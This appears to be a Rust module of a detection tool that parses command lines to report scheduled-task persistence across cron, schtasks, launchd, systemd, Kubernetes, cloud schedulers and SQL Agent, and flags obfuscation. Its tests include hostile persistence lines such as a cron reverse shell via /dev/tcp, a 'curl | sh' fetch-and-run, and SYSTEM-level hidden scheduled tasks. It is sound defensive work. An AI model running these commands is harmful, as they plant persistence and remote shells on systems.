/*!
A process to the jobs that it speaks of.
*/

use super::facts::{Activity, Interface, Jobs, Scheduler, host};
use super::names::Names;
use super::powershell::Parts;
use super::{
    at, attack, cloud_tool, crontab, kubernetes, launchd, powershell, reg,
    schtasks, systemd, wmic, write,
};
use crate::bytes;
use crate::derive::canonical::command::{Command, Commands, System};
use crate::derive::canonical::notes::{Notes, Obfuscation};
use crate::derive::canonical::path::stem;
use crate::derive::canonical::shell::WRITE;
use crate::derive::canonical::tool::{Identity, Tool};
use crate::derive::canonical::{expand, line};
use crate::event::Field;

/// Tells the jobs that a command line speaks of.
pub(crate) fn read(
    text: &[u8],
    original: Option<&[u8]>,
    system: System,
    commands: &mut Commands,
    jobs: &mut Jobs,
) -> Notes {
    line::read(text, system, commands);
    read_all(text, original, commands, jobs)
}

/// Tells the jobs that commands speak of, which were read from a text.
pub(crate) fn read_all(
    raw: &[u8],
    original: Option<&[u8]>,
    commands: &mut Commands,
    jobs: &mut Jobs,
) -> Notes {
    expand::all(commands, 0, original);
    let mut notes = Notes::default();
    let mut parts = Parts::default();
    let mut names = Names::default();
    let mut index = 0_usize;
    while let Some(command) = commands.get(index) {
        index = index.saturating_add(1);
        let undone = names.resolve(commands, command);
        let Identity { tool, is_renamed } =
            Tool::of(commands, command, original);
        let told = jobs.len();
        let on = command.origin.host;
        let on = on.map(|name| host(name, &mut commands.arena));
        jobs.are_on(on);
        let mut own = command.origin.notes;
        undone.into_iter().for_each(|undone| own.add(undone));
        match tool {
            Tool::Schtasks => {
                schtasks::read(commands, command, jobs, &mut own)
            }
            Tool::AtWindows => at::read_windows(commands, command, jobs),
            Tool::At => at::read_unix(commands, command, jobs, &mut own),
            Tool::Crontab => crontab::read(commands, command, jobs, &mut own),
            Tool::Systemctl => systemd::read_control(commands, command, jobs),
            Tool::SystemdRun => systemd::read_run(commands, command, jobs),
            Tool::Bus => systemd::read_bus(commands, command, jobs),
            Tool::Launchctl => {
                launchd::read(commands, command, jobs, &mut own)
            }
            Tool::Kubectl => kubernetes::read(commands, command, jobs),
            Tool::Cloud => cloud_tool::read(commands, command, jobs),
            Tool::Reg => reg::read(commands, command, jobs, &mut own),
            Tool::Wmic => wmic::read(commands, command, jobs),
            _ if command.origin.is_script => {
                powershell::read(
                    commands, command, &mut parts, jobs, &mut own,
                );
            }
            _ if attack::read(commands, command, jobs) => {}
            _ if kubernetes::read_api(commands, command, jobs) => {}
            _ => write::read(commands, command, original, jobs, &mut own),
        }
        if jobs.len() > told {
            notes.merge(telling(own, raw, commands, command, (jobs, told)));
            match command.origin.system {
                _ if !is_renamed => {}
                System::Windows => notes.add(Obfuscation::Renamed),
                System::Unix => notes.add(Obfuscation::Argv0),
            }
        }
    }
    jobs.are_on(None);
    database(raw, commands, jobs);
    let told = jobs.len();
    parts.finish(jobs);
    if jobs.len() > told {
        debug_assert!(jobs.len() == told.saturating_add(1));
    }
    if commands.is_cut() || jobs.is_cut() {
        notes.add(Obfuscation::Limit);
    }
    notes
}

/// Tells the job that a text of SQL gives the agent of SQL Server.
fn database(raw: &[u8], commands: &mut Commands, jobs: &mut Jobs) {
    const CALLS: [(&str, Activity); 4] = [
        ("sp_add_jobstep", Activity::Update),
        ("sp_add_job", Activity::Create),
        ("sp_start_job", Activity::Start),
        ("sp_delete_job", Activity::Delete),
    ];
    let find = |what: &[u8]| bytes::find(raw, what, 0, false);
    let call = CALLS.iter().find(|(name, _)| find(name.as_bytes()).is_some());
    let Some((_, activity)) = call else { return };
    jobs.head(*activity, Scheduler::SqlAgent, Interface::Api);
    let name = find(b"@job_name").and_then(|at| raw.get(at..));
    let mut parts = name.into_iter().flat_map(|at| at.split(|b| *b == b'\''));
    if let Some(name) = parts.nth(1) {
        let name = commands.arena.add(name);
        jobs.write(Field::JobName, name);
    }
    jobs.end();
}

/// Whether what was undone is told where it changes nothing: options in
/// quotes and other names are odd by themselves.
const ODD_BY_ITSELF: [Obfuscation; 8] = [
    Obfuscation::QuotedOption,
    Obfuscation::Renamed,
    Obfuscation::Argv0,
    Obfuscation::Encoded,
    Obfuscation::Limit,
    Obfuscation::Link,
    Obfuscation::HiddenCharacter,
    Obfuscation::LookAlike,
];

/// What was undone, where that matters: what is odd by itself, and the rest
/// if the text does not name what the command turns out to be.
fn telling(
    own: Notes,
    raw: &[u8],
    commands: &Commands,
    command: Command,
    (jobs, told): (&Jobs, usize),
) -> Notes {
    let file = commands.text(command, 1).unwrap_or_default();
    let program = commands.text(command, 0).unwrap_or_default();
    let name = if program == WRITE { file } else { stem(program) };
    let is_in = |text: &[u8]| bytes::find(raw, text, 0, false).is_some();
    let words = commands.words(command).iter().skip(1);
    let words = words.map(|word| commands.arena.get(word.text));
    let mut options = words.filter(|word| {
        matches!(word, [b'/' | b'-', name @ ..] if name.len() > 1
            && name.iter().all(u8::is_ascii_alphabetic))
    });
    let values = (told..jobs.len()).flat_map(|job| jobs.get(job));
    let mut files =
        values.filter(|(field, _)| *field == Field::JobFile).filter(|_| {
            // A path that is joined to a directory is none that hides.
            own.has(Obfuscation::DotSegments) || own.has(Obfuscation::ProcRoot)
        });
    let hides_file =
        files.any(|(_, text)| !is_in(text.resolve(&commands.arena)));
    // The names in a table of PowerShell, `@{TaskName='x'}`, have no dash.
    let is_said = |option: &[u8]| {
        let name = option.get(1..).unwrap_or_default();
        is_in(option) || command.origin.is_script && is_in(name)
    };
    if hides_file || !is_in(name) || options.any(|option| !is_said(option)) {
        // Put together in a way that left no note on the command itself.
        if own.is_empty() {
            let mut own = own;
            own.add(Obfuscation::Expansion);
            return own;
        }
        return own;
    }
    let mut kept = Notes::default();
    for what in ODD_BY_ITSELF {
        if own.has(what) {
            kept.add(what);
        }
    }
    kept
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// Each job of a command line on a line of its own, `Field=value` with
    /// `|` between; what had to be undone in brackets behind the last.
    pub(crate) fn told(line: &str, system: System) -> String {
        told_as(line, None, system)
    }

    pub(crate) fn told_as(
        line: &str,
        original: Option<&str>,
        system: System,
    ) -> String {
        let mut commands = Commands::default();
        let mut jobs = Jobs::default();
        let original = original.map(str::as_bytes);
        let line = line.as_bytes();
        let notes = read(line, original, system, &mut commands, &mut jobs);
        let job = |index| jobs.shown(index, &commands.arena);
        let mut text: Vec<String> = (0..jobs.len()).map(job).collect();
        if !notes.is_empty() {
            let names: Vec<&str> =
                notes.iter().map(Obfuscation::name).collect();
            text.push(format!("[{}]", names.join(",")));
        }
        text.join("\n")
    }

    /// What sensors and people write in other ways than the plainest.
    #[test]
    fn other_front_ends_tell_the_same_job() {
        const TABLE: &str = "Scheduler=cron|Interface=crontab";
        const FILE: &str = "Activity=update|Scheduler=cron|Interface=shell";
        const CLUSTER: &str = "Scheduler=kubernetes|Interface=kubectl";
        let minute = "Trigger=minute|Command=/tmp/x|Arguments=";
        let input =
            format!("Activity=update|{TABLE}|Trait=table_from_input|{minute}");
        let file = format!(
            "Activity=update|{TABLE}|Trait=table_from_input|File=/tmp/t|\
            {minute}"
        );
        for (line, expected) in [
            // Lines that went through a filter, or through a file.
            (
                "sh -c (echo '* * * * * /tmp/x') | sort | uniq | crontab -",
                input.clone(),
            ),
            ("sh -c crontab <(echo '* * * * * /tmp/x')", input.clone()),
            (
                "sh -c echo '* * * * * /tmp/x' > /tmp/t; crontab /tmp/t",
                file.clone(),
            ),
            (
                "sh -c crontab -l > /tmp/t && echo '* * * * * /tmp/x' >> /tmp/t && crontab /tmp/t",
                format!("Activity=query|{TABLE}\n{file}"),
            ),
            (
                "sh -c echo '* * * * * /tmp/x' > /tmp/u; crontab /tmp/t",
                format!("Activity=update|{TABLE}|File=/tmp/t"),
            ),
            (
                "sh -c sed -i '1i * * * * * root /tmp/x' /etc/crontab",
                format!(
                    "{FILE}|Name=crontab|File=/etc/crontab|\
                    Trigger=minute|User=root|Command=/tmp/x|Arguments="
                ),
            ),
            (
                "sed -i s/a/b/ /etc/crontab",
                format!("{FILE}|Name=crontab|File=/etc/crontab"),
            ),
            (
                "sh -c echo /etc/crontab | xargs -I{} sh -c 'echo \"* * * * * root /tmp/x\" >> {}'",
                format!(
                    "{FILE}|Name=crontab|File=/etc/crontab|\
                    Trigger=minute|User=root|Command=/tmp/x|Arguments="
                ),
            ),
            (
                "docker -H tcp://h run -v /etc:/x alpine sh -c 'echo > /x/cron.d/y'",
                format!("{FILE}|Name=y|File=/etc/cron.d/y\n[expansion]"),
            ),
            (
                "docker run -v /srv:/x alpine sh -c 'echo > /x/cron.d/y'",
                String::new(),
            ),
            // What a line does besides starting programs.
            (
                "sh -c echo '* * * * * cd /a && b > /dev/null 2>&1 &' | crontab -",
                format!(
                    "Activity=update|{TABLE}|Trait=table_from_input|\
                    Trigger=minute|Command=b|Arguments="
                ),
            ),
            (
                "sh -c echo '* * * * * sh -i >& /dev/tcp/h/1' | crontab -",
                format!(
                    "Activity=update|{TABLE}|Trait=table_from_input|\
                    Trigger=minute|Trait=command_network|Command=sh|\
                    Arguments=-i"
                ),
            ),
            (
                "sh -c echo '* * * * * curl h | sh' | crontab -",
                format!(
                    "Activity=update|{TABLE}|Trait=table_from_input|\
                    Trigger=minute|Command=curl|Arguments=h|\
                    Trait=command_reads_pipe|Command=sh|Arguments="
                ),
            ),
            // Arguments that a sensor joined.
            (
                "osascript -e do shell script \"echo '* * * * * /tmp/x' | crontab -\"",
                input,
            ),
            (
                "launchctl load -S Aqua /Library/LaunchAgents/x.plist",
                "Activity=enable|Scheduler=launchd|Interface=launchctl|\
                File=/Library/LaunchAgents/x.plist"
                    .to_owned(),
            ),
            // Clusters and clouds.
            (
                "k3s kubectl delete cronjob x",
                format!("Activity=delete|{CLUSTER}|Name=x"),
            ),
            ("k3s server", String::new()),
            (
                "sh -c kubectl apply -f - <<E\nkind: CronJob\nmetadata: {name: x, namespace: y}\nspec:\n  schedule: '*/5 * * * *'\nE",
                format!("Activity=update|{CLUSTER}|Name=y/x|Trigger=minute"),
            ),
            (
                "sh -c kubectl apply -f - <<E\nkind: Pod\nmetadata: {name: x}\nE",
                String::new(),
            ),
            (
                "curl -X DELETE https://h/apis/batch/v1/namespaces/y/cronjobs/x?a=b",
                "Activity=delete|Scheduler=kubernetes|Interface=api|Name=y/x"
                    .to_owned(),
            ),
            (
                "curl --data @c https://h/apis/batch/v1/namespaces/y/jobs",
                "Activity=create|Scheduler=kubernetes|Interface=api"
                    .to_owned(),
            ),
            ("curl https://h/apis/apps/v1/deployments", String::new()),
            (
                "/bin/bash /usr/bin/az automation runbook create --name x",
                "Activity=create|Scheduler=azure_automation|Interface=api|\
                Name=x"
                    .to_owned(),
            ),
            (
                "python3 -m azure.cli automation runbook list",
                "Activity=query|Scheduler=azure_automation|Interface=api"
                    .to_owned(),
            ),
            (
                "python3 -S /x/gcloud.py scheduler jobs delete y",
                "Activity=delete|Scheduler=gcp_scheduler|Interface=api|Name=y"
                    .to_owned(),
            ),
            ("python3 /srv/az_copy.py automation", String::new()),
        ] {
            assert_eq!(told(line, System::Unix), expected, "{line}");
        }
    }

    #[test]
    fn schtasks_calls_tell_of_their_job() {
        const HEAD: &str = "Scheduler=task_scheduler|Interface=schtasks";
        for (line, expected) in [
            (
                r#"schtasks /create /tn upd /tr "C:\Users\Public\p.exe -x" /sc minute /ru SYSTEM /rl highest /f"#,
                format!(
                    r"Activity=create|{HEAD}|Name=\upd|User=SYSTEM|RunLevel=highest|Trigger=minute|Command=C:\Users\Public\p.exe|Arguments=-x"
                ),
            ),
            (
                r#"schtasks -Create /S \\SRV1 /tn "\a b" /tr calc /sc ONSTART /ru """#,
                format!(
                    r"Activity=create|{HEAD}|Target=srv1|Name=\a b|User=SYSTEM|Trigger=boot|Command=calc|Arguments="
                ),
            ),
            (
                "schtasks /change /tn x /disable",
                format!(r"Activity=disable|{HEAD}|Name=\x"),
            ),
            (
                "schtasks /change /tn x /enable /tr y",
                format!(
                    r"Activity=update|Activity=enable|{HEAD}|Name=\x|Command=y|Arguments="
                ),
            ),
            ("schtasks", format!("Activity=query|{HEAD}")),
            (
                r#"schtasks /cr"ea"te /tn x /tr y"#,
                format!(
                    "Activity=create|{HEAD}|Name=\\x|Command=y|Arguments=\n[quoted_option]"
                ),
            ),
            (
                r#"schtasks /create /tn "x" /tr "y z""#,
                format!(
                    r"Activity=create|{HEAD}|Name=\x|Command=y|Arguments=z"
                ),
            ),
            (
                r"abc /create /tn x /tr y",
                format!(
                    "Activity=create|{HEAD}|Name=\\x|Command=y|Arguments=\n[renamed]"
                ),
            ),
            // As some agents hand it on, from a record that is XML.
            (
                r"cmd.exe /c dir &gt;nul &amp; schtasks /create /tn x /tr y",
                format!(
                    r"Activity=create|{HEAD}|Name=\x|Command=y|Arguments="
                ),
            ),
            (
                r"abc -run /tn x",
                format!("Activity=start|{HEAD}|Name=\\x\n[renamed]"),
            ),
            // The options of another program.
            (r"abc /run x", String::new()),
            (r"abc /create /xml x", String::new()),
            (r"abc /create x", String::new()),
            (r"robocopy /s /e a b", String::new()),
        ] {
            assert_eq!(told(line, System::Windows), expected, "{line}");
        }
    }

    #[test]
    fn quotes_around_a_text_for_a_shell_are_no_part_of_it() {
        const LINE: &str = "Activity=update|Scheduler=cron|Interface=crontab|Trait=table_from_input|Trigger=minute|Command=/tmp/x|Arguments=";
        for line in [
            r#"bash -c "echo '* * * * * /tmp/x' | crontab -""#,
            r#"bash -c 'echo "* * * * * /tmp/x" | crontab -'"#,
            r#"bash -c echo "* * * * * /tmp/x" | crontab -"#,
            r#"echo "* * * * * /tmp/x" | crontab -"#,
            r#"bash -c a="* * * * *";echo "$a /tmp/x" | crontab -"#,
            r#"sudo bash -c "echo '* * * * * /tmp/x' | crontab -""#,
            r#"sudo bash -c echo "* * * * * /tmp/x" | crontab -"#,
            r#"docker run -v /:/h --name n i sh -c "echo '* * * * * /tmp/x' | crontab -""#,
            r#"su -c "echo '* * * * * /tmp/x' | crontab -" ann"#,
            r#"python3 -c "import os; os.system('echo \"* * * * * /tmp/x\" | crontab -')""#,
            r#"osascript -e 'do shell script "echo \"* * * * * /tmp/x\" | crontab -"'"#,
        ] {
            assert_eq!(told(line, System::Unix), LINE, "{line}");
        }
        let elsewhere =
            r#"ssh -p 22 a@H "echo '* * * * * /tmp/x' | crontab -""#;
        assert_eq!(told(elsewhere, System::Unix), format!("{LINE}|Target=h"));
        for line in [
            "crontab -V",
            "sh -c command -v crontab",
            "sh -c 'command -V crontab'",
            "python3 -c 'print(\"see crontab -e\")'",
        ] {
            assert_eq!(told(line, System::Unix), "", "{line}");
        }
    }

    #[test]
    fn programs_in_other_languages_start_what_their_constants_are() {
        const LINE: &str = "Activity=create|Scheduler=task_scheduler|Interface=schtasks|Name=\\x|Command=y|Arguments=";
        for line in [
            r#"python -c "import os; os.system('schtasks /create /tn x /tr y')""#,
            r#"python -c "subprocess.run(['schtasks', '/create', '/tn', 'x', '/tr', 'y'])""#,
            r#"mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""schtasks /create /tn x /tr y"" ")"#,
            r"powershell -c Start-Process schtasks -ArgumentList '/create /tn x /tr y' -WindowStyle Hidden",
            r"powershell -c saps schtasks.exe '/create','/tn','x','/tr','y'",
            r"powershell -c [Diagnostics.Process]::Start('schtasks','/create /tn x /tr y')",
        ] {
            assert_eq!(told(line, System::Windows), LINE, "{line}");
        }
    }

    #[test]
    fn programs_that_start_schtasks_are_looked_through() {
        const JOB: &str = r"Activity=create|Scheduler=task_scheduler|Interface=schtasks|Name=\x|Command=y|Arguments=";
        for line in [
            "gsudo schtasks /create /tn x /tr y",
            "NSudoLG.exe -U:T -P:E schtasks /create /tn x /tr y",
            "nircmd.exe exec hide schtasks /create /tn x /tr y",
            "wt -w 0 nt cmd /c schtasks /create /tn x /tr y",
            "launcher.exe --quiet C:\\Windows\\System32\\schtasks.exe /create /tn x /tr y",
        ] {
            assert_eq!(told(line, System::Windows), JOB, "{line}");
            let original = Some("Launcher.exe");
            assert_eq!(
                told_as(line, original, System::Windows),
                JOB,
                "{line}"
            );
        }
        for line in [
            r"winrs -r:SRV schtasks /create /tn x /tr y",
            r#"winrs -r:SRV "schtasks /create /tn x /tr y""#,
            r"paexec \\SRV -u a -p b -s cmd /c schtasks /create /tn x /tr y",
            r"psexec \\SRV -s schtasks /create /tn x /tr y",
            r#"wmic /node:"SRV" process call create "schtasks /create /tn x /tr y""#,
        ] {
            let expected = format!("{JOB}|Target=srv");
            assert_eq!(told(line, System::Windows), expected, "{line}");
        }
        for line in [
            "where schtasks",
            "taskkill /f /im schtasks.exe",
            "schtasks /create /?",
            "schtasks /?",
            r"psexec \\SRV -s ipconfig",
        ] {
            assert_eq!(told(line, System::Windows), "", "{line}");
        }
    }

    #[test]
    fn what_stands_before_a_command_is_looked_through() {
        const TABLE: &str = "Activity=update|Scheduler=cron|Interface=crontab";
        let here = format!("{TABLE}|File=/tmp/t");
        let inside = format!("{here}|Target=container");
        for before in [
            "setpriv --reuid 0 --clear-groups",
            "gosu root",
            "su-exec root",
            "setuidgid root",
            "fakeroot --",
            "firejail --noprofile",
            "unbuffer",
            "proot -r /x",
            "systemd-nspawn -D /x",
            "screen -dmS crontab",
            "machinectl shell c",
            "launchctl asuser 501",
            "/lib64/ld-linux-x86-64.so.2 --library-path /x",
            "proxychains4 -q -f /x",
            "ip netns exec n",
            "setarch x86_64 -R",
            "envdir /x",
            "softlimit -m 9",
            "tmux new-session -d -s n",
            "parallel -j 1",
            "perf stat -o /x",
        ] {
            let line = format!("{before} crontab /tmp/t");
            assert_eq!(told(&line, System::Unix), here, "{line}");
        }
        for before in ["lxc exec c --", "incus exec c", "pct exec 100 --"] {
            let line = format!("{before} crontab /tmp/t");
            assert_eq!(told(&line, System::Unix), inside, "{line}");
        }
        for line in [
            "capsh -- -c 'crontab /tmp/t'",
            "sg root -c 'crontab /tmp/t'",
            "sudo salt-call cmd.run 'crontab /tmp/t'",
        ] {
            assert_eq!(told(line, System::Unix), here, "{line}");
        }
        for (line, host) in [
            ("sshpass -p x ssh root@h crontab /tmp/t", "h"),
            ("pdsh -w h[1-9] crontab /tmp/t", "h[1-9]"),
            ("ansible all -b -m shell -a 'crontab /tmp/t'", "all"),
            ("ansible web -a 'crontab /tmp/t'", "web"),
            ("salt '*' cmd.run 'crontab /tmp/t'", "*"),
        ] {
            let expected = format!("{here}|Target={host}");
            assert_eq!(told(line, System::Unix), expected, "{line}");
        }
        for line in [
            "lxc list",
            "screen -r crontab",
            "machinectl list",
            "ip link show crontab",
            "ansible all -m copy -a 'src=crontab dest=/x'",
            "tmux kill-session -t crontab",
        ] {
            assert_eq!(told(line, System::Unix), "", "{line}");
        }
    }

    #[test]
    fn what_windows_starts_in_a_linux_is_told() {
        const TABLE: &str = "Activity=update|Scheduler=cron|Interface=crontab";
        const FILE: &str = "Activity=update|Scheduler=cron|Interface=shell";
        let table = format!("{TABLE}|File=/tmp/t");
        let remote = format!("{TABLE}|File=/tmp/t|Target=h");
        let inside = format!("{TABLE}|File=/tmp/t|Target=container");
        let file = format!(
            "{FILE}|Name=t|File=/etc/cron.d/t|Trigger=minute|User=root|\
            Command=/srv/r|Arguments="
        );
        for (line, expected) in [
            ("wsl crontab /tmp/t", &*table),
            ("wsl.exe -e crontab /tmp/t", &table),
            ("WSL -d Debian -u root -- crontab /tmp/t", &table),
            ("wsl --cd ~ --exec crontab /tmp/t", &table),
            (r#"wsl "crontab /tmp/t""#, &table),
            (r#"wsl ~ -u root sh -c "crontab /tmp/t""#, &table),
            ("cmd /c wsl crontab /tmp/t", &table),
            (
                r#"wsl -e sh -c "echo '* * * * * root /srv/r' > /etc/cron.d/t""#,
                &file,
            ),
            (
                r#"bash.exe -c "echo '* * * * * root /srv/r' > /etc/cron.d/t""#,
                &file,
            ),
            ("ssh -p 22 root@h crontab /tmp/t", &remote),
            (r#"plink.exe -ssh -pw z root@h "crontab /tmp/t""#, &remote),
            ("docker exec -it c crontab /tmp/t", &inside),
            ("ssh root@h", ""),
            ("docker ps", ""),
            ("wsl", ""),
            ("wsl -u", ""),
            ("wsl --", ""),
            ("wsl --list --verbose", ""),
            ("wsl --install -d crontab", ""),
            ("wsl ls /etc/cron.d", ""),
        ] {
            assert_eq!(told(line, System::Windows), expected, "{line}");
        }
        let line = "wsl schtasks.exe /create /tn x /tr y";
        let plain = told(&line.replace("wsl ", ""), System::Windows);
        assert_eq!(told(line, System::Windows), plain);
    }

    #[test]
    fn backslashes_in_paths_of_arguments_count_once() {
        for (arguments, expected) in [
            (r"C:\\Windows\\Temp\\x.vbe", r"C:\Windows\Temp\x.vbe"),
            (r"/c %temp%\\x.bat", r"/c %temp%\x.bat"),
            (r"\\srv\d\x.exe", r"\\srv\d\x.exe"),
            (r"C:\\a \\srv\d", r"C:\a \\srv\d"),
            (r"http:\\x.example\a", r"http:\\x.example\a"),
        ] {
            let line =
                format!("schtasks /create /tn n /tr \"y.exe {arguments}\"");
            let job = told(&line, System::Windows);
            let end = format!("|Command=y.exe|Arguments={expected}");
            assert!(job.ends_with(&end), "{arguments}: {job}");
        }
    }

    #[test]
    fn script_hosts_tell_of_what_they_do_by_com() {
        const JOB: &str = r"Activity=create|Scheduler=task_scheduler|Interface=com|Name=\Upd|Trigger=logon|Command=wscript.exe|Arguments=C:\x\u.js";
        for line in [
            r#"mshta vbscript:Execute("Set s=CreateObject(""Schedule.Service""):s.Connect:Set f=s.GetFolder(""\""):Set d=s.NewTask(0):d.Triggers.Create(9):Set a=d.Actions.Create(0):a.Path=""wscript.exe"":a.Arguments=""C:\x\u.js"":f.RegisterTaskDefinition ""Upd"",d,6,,,3:close")"#,
            r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";s=new ActiveXObject('Schedule.Service');s.Connect();d=s.NewTask(0);d.Triggers.Create(9);a=d.Actions.Create(0);a.Path='wscript.exe';a.Arguments='C:\x\u.js';s.GetFolder('\\').RegisterTaskDefinition('Upd',d,6,'','',3)"#,
        ] {
            assert_eq!(told(line, System::Windows), JOB, "{line}");
        }
        for line in [
            r#"mshta vbscript:Execute("Set s=CreateObject(""WScript.Shell""):s.Run ""calc"":close")"#,
            r#"mshta.exe C:\Tools\schedule.hta"#,
        ] {
            assert_eq!(told(line, System::Windows), "", "{line}");
        }
    }

    #[test]
    fn scripts_tell_of_their_jobs() {
        for (script, expected) in [
            (
                "$a = New-ScheduledTaskAction -Execute 'cmd.exe' -Argument '/c calc'; $t = New-ScheduledTaskTrigger -AtLogOn; Register-ScheduledTask -TaskName x -Action $a -Trigger $t -User SYSTEM",
                r"Activity=create|Scheduler=task_scheduler|Interface=powershell|Name=\x|User=SYSTEM|Command=cmd.exe|Arguments=/c calc|Command=calc|Arguments=|Trigger=logon",
            ),
            (
                "Register-ScheduledTask y -Action (New-ScheduledTaskAction -Exec c:\\p.exe) -RunLevel Highest",
                r"Activity=create|Scheduler=task_scheduler|Interface=powershell|Name=\y|RunLevel=highest|Command=C:\p.exe|Arguments=",
            ),
            (
                "Get-ScheduledTask | ? x",
                "Activity=query|Scheduler=task_scheduler|Interface=powershell",
            ),
            (
                "Unregister-ScheduledTask -TaskN x -Confirm:$false",
                r"Activity=delete|Scheduler=task_scheduler|Interface=powershell|Name=\x",
            ),
            (
                "$s = New-Object -Com Schedule.Service; $s.Connect('SRV'); $d=$s.NewTask(0); $d.Triggers.Create(9); $a=$d.Actions.Create(0); $a.Path='c:\\x.exe'; $s.GetFolder('\\').RegisterTaskDefinition('n',$d,6,'SYSTEM',$null,5)",
                r"Activity=create|Scheduler=task_scheduler|Interface=com|Name=\n|Target=srv|User=SYSTEM|Trigger=logon|Command=c:\x.exe",
            ),
            (
                "schtasks /create /tn x /tr y",
                r"Activity=create|Scheduler=task_scheduler|Interface=schtasks|Name=\x|Command=y|Arguments=",
            ),
            // Tables are plain style.
            (
                "$p = @{ TaskName = 'x'; Action = New-ScheduledTaskAction -Execute 'y.exe' -Argument '-z'; Trigger = New-ScheduledTaskTrigger -Daily -At 2am }; Register-ScheduledTask @p",
                r"Activity=create|Scheduler=task_scheduler|Interface=powershell|Name=\x|Command=y.exe|Arguments=-z|Trigger=daily",
            ),
            (
                "$a = New-ScheduledTaskAction -Execute y.exe; $p = @{TaskName='x';Action=$a;Settings=(New-ScheduledTaskSettingsSet -Hidden);Trigger=(New-ScheduledTaskTrigger -Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Minutes 5))}; Register-ScheduledTask @p",
                r"Activity=create|Scheduler=task_scheduler|Interface=powershell|Name=\x|Command=y.exe|Arguments=|Hidden=true|Trigger=once|Trigger=minute",
            ),
            (
                "Invoke-CimMethod -Namespace Root/Microsoft/Windows/TaskScheduler -ClassName PS_ScheduledTask -MethodName GetInfoByName -Arguments @{TaskName='x'}",
                r"Activity=query|Scheduler=task_scheduler|Interface=cim|Name=\x",
            ),
            // Hosts.
            (
                "Start-ScheduledTask -TaskName x -CimSession (New-CimSession DC02)",
                r"Activity=start|Scheduler=task_scheduler|Interface=powershell|Name=\x|Target=dc02",
            ),
            (
                "$s = New-CimSession -ComputerName SRV; Start-ScheduledTask x -CimSession $s",
                r"Activity=start|Scheduler=task_scheduler|Interface=powershell|Name=\x|Target=srv",
            ),
            (
                "Invoke-Command -ComputerName SRV -ScriptBlock { Disable-ScheduledTask x }",
                r"Activity=disable|Scheduler=task_scheduler|Interface=powershell|Name=\x|Target=srv",
            ),
            (
                "icm { Disable-ScheduledTask x } -cn SRV",
                r"Activity=disable|Scheduler=task_scheduler|Interface=powershell|Name=\x|Target=srv",
            ),
            (
                "Invoke-WmiMethod -ComputerName SRV -Class Win32_Process -Name Create -ArgumentList 'schtasks /create /tn x /tr y'",
                r"Activity=create|Scheduler=task_scheduler|Interface=schtasks|Name=\x|Command=y|Arguments=|Target=srv",
            ),
            // A class of WMI, called as a type.
            (
                r"([wmiclass]'\\SRV\root\cimv2:Win32_ScheduledJob').Create('y.exe -z','********123000.000000+060',$false)",
                "Activity=create|Scheduler=at|Interface=wmi|Target=srv|Command=y.exe|Arguments=-z",
            ),
            (
                r"$c = [wmiclass]'root\cimv2:Win32_ScheduledJob'; $c.Create('y.exe')",
                "Activity=create|Scheduler=at|Interface=wmi|Command=y.exe|Arguments=",
            ),
            (
                r"([wmiclass]'\\SRV\root\cimv2:Win32_Process').Create('schtasks /create /tn x /tr y')",
                r"Activity=create|Scheduler=task_scheduler|Interface=schtasks|Name=\x|Command=y|Arguments=|Target=srv",
            ),
            (
                r"Get-ScheduledTask -TaskPath \a\ | Disable-ScheduledTask",
                "Activity=query|Scheduler=task_scheduler|Interface=powershell|Name=\\a\\\nActivity=disable|Scheduler=task_scheduler|Interface=powershell|Name=\\a\\",
            ),
            ("Get-Process", ""),
        ] {
            let line = format!("powershell -c {script}");
            assert_eq!(told(&line, System::Windows), expected, "{script}");
        }
    }
}
